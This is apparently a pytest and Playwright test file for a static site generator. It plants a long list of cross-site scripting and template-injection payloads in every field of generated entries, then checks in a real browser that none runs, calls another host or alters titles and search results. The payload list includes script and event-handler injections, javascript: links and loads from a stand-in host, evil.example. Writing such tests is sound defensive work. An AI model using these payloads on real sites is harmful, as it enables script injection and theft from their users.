"""Nothing that a contributor writes runs: payloads in every field and every text, opened in a real browser.

Each payload is the title, and stands in every other field and in the text, of an entry; in two sites, so
that each comes as two kinds of entry. Every page of theirs is opened with the Content-Security-Policy and
without it, since the policy only stands behind the escaping. `scripts/test` finds the browser.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page
from tests import figures
from tests.served import chromium, served
from tests.sites import VOCABULARY, Built, build, write_project

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PAYLOADS: Final = (
    "<script>window.__pwned=1</script>",
    "<script>alert(1)</script>",
    "</script><script>window.__pwned=1</script>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    '<script type="module">window.__pwned=1</script>',
    "<img src=x onerror=window.__pwned=1>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=window.__pwned=1>',
    "'><img src=x onerror=window.__pwned=1>",
    "--><img src=x onerror=window.__pwned=1>",
    "]]><img src=x onerror=window.__pwned=1>",
    "</title><img src=x onerror=window.__pwned=1>",
    "</textarea><img src=x onerror=window.__pwned=1>",
    "</style><img src=x onerror=window.__pwned=1>",
    "</div></article></main><img src=x onerror=window.__pwned=1>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/pixel.gif 1x'>",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><a xlink:href='javascript:window.__pwned=1'><text y=9>a</text></a></svg>",
    "<math><mtext><img src=x onerror=window.__pwned=1></mtext></math>",
    "<math href='javascript:window.__pwned=1'>a</math>",
    "<iframe src='javascript:window.__pwned=1'></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data='javascript:window.__pwned=1'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<a href='javascript:window.__pwned=1'>a</a>",
    "<a href='java&#9;script:window.__pwned=1'>a</a>",
    "<a href='&#106;avascript:window.__pwned=1'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='https://example.org/' style='position:fixed;inset:0'>a</a>",
    "<form action='https://evil.example/'><input name=q><button>a</button></form>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>a</details>",
    "<video src=https://evil.example/x.mp4 onerror=window.__pwned=1></video>",
    "<audio src=x onerror=window.__pwned=1>",
    "<body onload=window.__pwned=1>",
    "<marquee onstart=window.__pwned=1>a</marquee>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<template><img src=x onerror=window.__pwned=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
    "<p id=__search>a</p>",
    "<p id=__config>{}</p>",
    "<p id=__drawer>a</p>",
    "<p id=pl-menu onclick=window.__pwned=1>a</p>",
    "<a name=__md_get id=__palette>a</a>",
    "{: #__search onclick=window.__pwned=1 }",
    "{: #__toc style=position:fixed }",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in [1] %}{{ x }}{% endfor %}",
    "{{ 7 * 7 }}",
    "[a](javascript:window.__pwned=1)",
    "[a](JaVaScRiPt:window.__pwned=1)",
    "[a](&#106;avascript:window.__pwned=1)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:alert)",
    "<javascript:window.__pwned=1>",
    '[a](https://example.org/ "x\' onmouseover=window.__pwned=1 y=")',
    '[a](https://example.org/"onmouseover="window.__pwned=1)',
    "`<img src=x onerror=window.__pwned=1>`",
    "&lt;img src=x onerror=window.__pwned=1&gt;",
    "&amp;lt;script&amp;gt;window.__pwned=1&amp;lt;/script&amp;gt;",
    "\\<img src=x onerror=window.__pwned=1\\>",
    '" onfocus=window.__pwned=1 autofocus x="',
    "' onfocus=window.__pwned=1 autofocus x='",
    "${window.__pwned=1}",
    "<!--<img src=x onerror=window.__pwned=1>",
    "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
    "<?php window.__pwned=1 ?>",
)
KINDS: Final = ("practice", "output", "harvest", "space")
CONSENT: Final = {"level": "public", "given": "2026-03-01", "by": "group"}
BODY: Final = """\
{0}

## {0}

- {0}
    - {0}

> {0}

| a | {0} |
|---|---|
| {0} | b |

[{0}](https://example.org/ "{0}") *{0}* **{0}**

A note.[^1]

[^1]: {0}

```{0}
{0}
```

    {0}

{0}
===

Text
: {0}
"""
LOOKED_FOR: Final = """() => {
  const all = [...document.querySelectorAll("*")];
  const article = document.querySelector("article");
  const within = [...article.querySelectorAll("*")];
  const bodies = [...article.querySelectorAll(".pl-body *")];
  const called = ({localName, attributes}) =>
    `<${localName} ${[...attributes].map(a => a.name + "=" + a.value)}>`;
  const ids = all.map(e => e.id).filter(Boolean);
  // Forms of ours bear a class, which no contributor's element can have.
  const ours = ".pl-search, .pl-finder, .pl-form, .pl-choosing, .pl-map";
  const attributes = (elements, wrong) =>
    elements.filter(e => [...e.attributes].some(wrong)).map(called);
  const scripted = (a) => /^(href|src|action|formaction|data|xlink:href)$/.test(a.name)
    && /^(javascript|vbscript|data):/i.test(a.value.replace(/[\\u0000-\\u0020]/g, ""));
  return {
    "ran": window.__pwned === undefined ? [] : ["window.__pwned"],
    "handlers": attributes(all, a => a.name.startsWith("on")),
    "styles": attributes(within, a => a.name === "style"),
    "addresses": attributes(all, scripted),
    "scripts": [...document.querySelectorAll("script")].filter(
      e => e.type !== "application/json" // data of ours, which no browser runs
        && (article.contains(e) || (e.src && new URL(e.src).origin !== location.origin))).map(called),
    "elements": within.filter(e => !e.closest(ours) && e.matches("iframe, object, embed, base, form, input, video, audio, math, "
      + "link, meta, template, style, frame, noscript, marquee")).map(called),
    "foreign": bodies.filter(e => e.matches("svg, details, script, [class]:not("
      + ".footnote-ref, .footnote-backref, .pl-term, .pl-tip, .footnote, [class^=md-])")).map(called),
    "ids twice": ids.filter((id, place) => ids.indexOf(id) !== place),
    "ids": bodies.map(e => e.id).filter(id => id && !/^(note-|fn|pl-tip-|__code_\\d+$)/.test(id)),
  };
}"""
"""What must not be on a page, by the kind of it; `md-…` and `__code_…` are what Material's script adds."""


def words_of(number: int) -> str:
    """Give a payload behind a word that only it has, to be searched for."""
    return f"Quince{number:02} {PAYLOADS[number]}"


def text_of(head: Mapping[str, Any], body: str) -> str:
    """Write an entry; JSON is YAML."""
    lines = (f"{key}: {json.dumps(value)}\n" for key, value in head.items())
    return f"---\n{''.join(lines)}---\n\n{body}"


def entry(number: int, kind: str) -> tuple[str, str]:
    """Give the path and the text of an entry with a payload wherever words may stand."""
    words, name = words_of(number), f"p{number:02}"
    people = [{"name": words, "role": words, "organisation": words}]
    resources = [{"title": words, "url": f"https://example.org/{number}"}]
    common = {"title": words, "content_note": words, "principles": [{"shared-ownership": words}]}
    body = BODY.format(PAYLOADS[number])
    if kind == "space":
        more: dict[str, Any] = {"type": "CoP", "host": words, "purpose": words, "initiative": words}
        more |= {"region": words, "authority": words, "facilitators": people, "harvesters": people}
        return f"spaces/{name}/space.md", text_of({**common, **more, "resources": resources}, body)
    if kind == "harvest":
        quote = {"text": words, **people[0], "consent": {**CONSENT, "by": "person", "credit": "named"}}
        first = {"title": f"Walk {words}", "summary": words, "relation": "adapted", "note": words}
        thing = {"title": f"Thing {words}", "kind": "tool", "summary": words}
        more = {"date": "2026-02-01", "harvesters": people, "practices": [first], "outputs": [thing]}
        more |= {"reflections": {"stories-shared": words}, "quotes": [quote]}
        more |= {"consent": {**CONSENT, "credit": "named", "wording": words}}
        return f"spaces/river/harvests/2026-02-01-{name}.md", text_of({**common, **more}, body)
    more = {"summary": words, "authority": words, "resources": resources}
    if kind == "practice":
        more |= {"purpose": words, "watch_for": [words], "related": ["clean"]}
        return f"spaces/practices/{name}.md", text_of({**common, **more}, body)
    del common["principles"]
    more |= {"kind": "tool", "practices": ["clean"], "used_by": [{"who": words, "how": words}]}
    return f"spaces/river/outputs/{name}.md", text_of({**common, **more}, body)


CLEAN: Final = {
    "spaces/vocabulary.yml": VOCABULARY,
    "spaces/river/space.md": text_of(
        {"title": "River", "type": "CoP", "host": "River House"}, "By the river.\n"
    ),
    "spaces/practices/clean.md": text_of({"title": "Clean", "summary": "Plain."}, "Plain words.\n"),
}


@dataclass
class Seen:
    """What opening the pages of a site showed."""

    opened: int = 0
    dialogs: list[str] = field(default_factory=list)
    hosts: set[str] = field(default_factory=set)
    """Other hosts that were asked for something."""
    wrong: list[str] = field(default_factory=list)
    """What is in a page and must not be."""
    titles: list[str] = field(default_factory=list)
    """Titles that do not read as written."""
    found: dict[str, str] = field(default_factory=dict)
    """What the search shows for the word of a payload."""


SEARCHED: Final = (0, 7, 9, 13, 31, 60, 68, 69)
"""Payloads that are searched for."""


def own_pages(built: Built) -> Iterator[tuple[str, int | None]]:
    """Give the address of each page that a payload is on, and which where it is the page's title."""
    titles = {f"p{number:02}": number for number in range(len(PAYLOADS))}
    for name, data in built.site.items():
        if name.endswith(".html") and b"Quince" in data:
            last = name.removesuffix("/index.html").rpartition("/")[2].removeprefix("2026-02-01-")
            yield name.removesuffix("index.html"), titles.get(last)


def visit(built: Built, start: str, context: BrowserContext) -> Seen:
    """Open every page that a payload is on, and search for some."""
    seen, page = Seen(), context.new_page()
    own = urlsplit(start).netloc

    def asked(url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme not in {"data", "blob"} and parts.netloc != own:
            seen.hosts.add(parts.netloc)

    def answered(dialog: Dialog) -> None:
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    context.on("request", lambda request: asked(request.url))
    page.on("dialog", answered)
    for address, number in own_pages(built):
        page.goto(f"{start}{address}")
        seen.opened += 1
        found = page.evaluate(LOOKED_FOR)
        seen.wrong += [f"{address}: {kind}: {what}" for kind, many in found.items() for what in many]
        if number is not None:
            title = " ".join(words_of(number).split())
            headings = page.locator("h1").all_text_contents()
            shown = [*(" ".join(text.split()) for text in headings), page.title()]
            if shown != [title, f"{title} – A small library"]:
                seen.titles.append(f"{title} shows as {shown}")
    page.goto(start)
    for number in SEARCHED:
        search(page, number, seen)
    page.close()
    return seen


SHOWN: Final = {"box": "#pl-search [role=option] .pl-search__title", "finder": "#pl-finder-results h3 a"}
"""Where a search shows titles: below the field in the head, and in the finder."""
UNSAFE: Final = """(within) => [...document.querySelectorAll(within)].filter((e) => e.matches(
  "script, img, iframe, form form, object, style") || [...e.attributes].some(
  (a) => a.name.startsWith("on"))).map((e) => e.outerHTML.slice(0, 200))"""


def search(page: Page, number: int, seen: Seen) -> None:
    """Search for the word of a payload in the head of a page, and in the finder."""
    page.locator("#pl-search input").fill("")
    page.locator("#pl-search input").press_sequentially(f"quince{number:02}")
    look(page, "box", number, seen)
    page.keyboard.press("Enter")
    page.wait_for_url("**/find/?q=*")
    look(page, "finder", number, seen)
    page.go_back()


def look(page: Page, place: str, number: int, seen: Seen) -> None:
    """Keep what a search shows for a payload."""
    mine = page.locator(SHOWN[place]).filter(has_text=f"Quince{number:02}").first
    mine.wait_for(state="attached", timeout=20_000)
    seen.found[f"{place}: {words_of(number)}"] = f"{place}: {mine.text_content()}"
    found = page.evaluate(UNSAFE, ".pl-search__panel *, .pl-finder__found *, .pl-finder__side *")
    seen.wrong += [f"search: {what}" for what in found]
    seen.wrong += ["search: ran"] if page.evaluate("window.__pwned !== undefined") else []


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Give a browser for all tests of this file."""
    with chromium() as started:
        yield started


@dataclass(frozen=True)
class Way:
    """One way to look at all payloads."""

    turn: int
    """By how many kinds the kind of entry that holds a payload is moved on."""
    bypass_csp: bool
    """Whether the browser takes no notice of the pages' policy."""


@pytest.fixture(
    scope="module",
    params=[Way(0, bypass_csp=False), Way(1, bypass_csp=True)],
    ids=["with the policy", "without the policy and as another kind"],
)
def way(request: pytest.FixtureRequest) -> Way:
    """Give the ways: each payload is in two kinds of entry, and meets the policy in one of them."""
    chosen: Way = request.param
    return chosen


@pytest.fixture(scope="module")
def built(way: Way, tmp_path_factory: pytest.TempPathFactory) -> Built:
    """Give a site with all payloads, each as one kind of entry."""
    kinds = (KINDS[(number + way.turn) % len(KINDS)] for number in range(len(PAYLOADS)))
    entries = dict(entry(number, kind) for number, kind in enumerate(kinds))
    project = write_project(
        tmp_path_factory.mktemp("payloads"), {**CLEAN, **entries}, options={"source": "private"}
    )
    done = build(project)
    assert done.code == 0, done.output
    return done


@pytest.fixture(scope="module")
def seen(way: Way, built: Built, browser: Browser) -> Seen:
    """Give what opening all pages showed, with the policy or past it."""
    with (
        served(built.project / "site") as start,
        browser.new_context(bypass_csp=way.bypass_csp, service_workers="block") as context,
    ):
        found = visit(built, start, context)
    figures.add("payloads: pages opened", found.opened)
    figures.add("payloads: dialogs seen", len(found.dialogs))
    figures.add("payloads: hosts contacted", len(found.hosts))
    figures.add("payloads: tried", len(PAYLOADS))
    return found


def test_no_payload_runs_or_asks_another_host_or_gets_into_the_page(seen: Seen) -> None:
    assert seen.opened > len(PAYLOADS)
    assert (seen.dialogs, seen.hosts, sorted(seen.wrong)) == ([], set(), [])


def test_every_title_reads_as_it_was_written(seen: Seen) -> None:
    assert seen.titles == []


def test_the_search_shows_a_title_as_text(seen: Seen) -> None:
    told = {title: " ".join(shown.split()) for title, shown in seen.found.items()}
    payloads = {title: " ".join(title.partition(": ")[2].split()) for title in told}
    assert {title: shown for title, shown in told.items() if payloads[title] not in shown} == {}
